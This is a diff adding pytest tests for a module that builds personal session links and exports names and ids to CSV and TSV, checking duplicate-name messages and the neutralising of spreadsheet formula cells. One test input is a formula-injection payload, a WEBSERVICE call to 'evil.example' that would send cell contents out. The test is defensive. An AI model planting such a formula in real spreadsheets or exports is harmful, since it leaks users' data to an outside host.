@@ -23,7 +23,9 @@ from roomdesk.sessions.personal_links import (
     derive_external_id,
     name_problem,
     parse_names,
+    people_problems,
     personal_links,
+    spreadsheet_cell,
     unique_external_ids,
 )
 from tests.session_samples import HOST_LINK, LINK
@@ -168,6 +170,20 @@ def test_edited_ids_are_used_and_bad_or_shared_ones_refused_naming_the_person():
     ]
 
 
+def test_each_person_s_problems_say_whether_the_name_or_the_id_is_wrong():
+    found = people_problems(["Sam", "a:b", "sam", "Kim"], ["sam", "ab", "sam-2", "SAM"])
+    assert [(bool(p.name), bool(p.external_id)) for p in found] == [
+        (False, False),
+        (True, False),
+        (True, False),
+        (False, True),
+    ]
+    assert found[2].name and found[2].name.startswith("“sam” is listed twice (as “Sam” before)")
+    assert found[3].external_id == (
+        "the externalId of “Kim”, “SAM”, is also that of “Sam”; each person needs their own"
+    )
+
+
 def test_no_names_is_a_problem_too():
     with pytest.raises(PersonalLinkError, match="no names given"):
         personal_links(LINK, [])
@@ -227,3 +243,27 @@ def test_the_lists_have_a_header_and_one_row_a_person():
     ]
     assert as_csv(made).endswith("\r\n")
     assert "\r" not in as_csv(made, line_end="\n")
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    names = ['=WEBSERVICE("evil.example/?"&A1)', "+47 Sam", "-Kim", "@Jo", "Al = Al"]
+    ids = ["x1", "x2", "x3", "-x4", "x5"]
+    made = personal_links(LINK, names, external_ids=ids)
+    expected = [
+        ["name", "externalId", "link"],
+        ['\'=WEBSERVICE("evil.example/?"&A1)', "x1", made[0].link],
+        ["'+47 Sam", "x2", made[1].link],
+        ["'-Kim", "x3", made[2].link],
+        ["'@Jo", "'-x4", made[3].link],
+        ["Al = Al", "x5", made[4].link],
+    ]
+    assert list(csv.reader(io.StringIO(as_csv(made), newline=""))) == expected
+    assert [line.split("\t") for line in as_tsv(made).splitlines()] == expected
+    # The links themselves still carry the names and ids as they are.
+    assert query(made[3].link)["externalId"] == ["-x4"]
+
+
+@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
+def test_every_formula_start_is_made_text(text):
+    assert spreadsheet_cell(text) == f"'{text}"
+    assert spreadsheet_cell(f"Sam {text}") == f"Sam {text}"
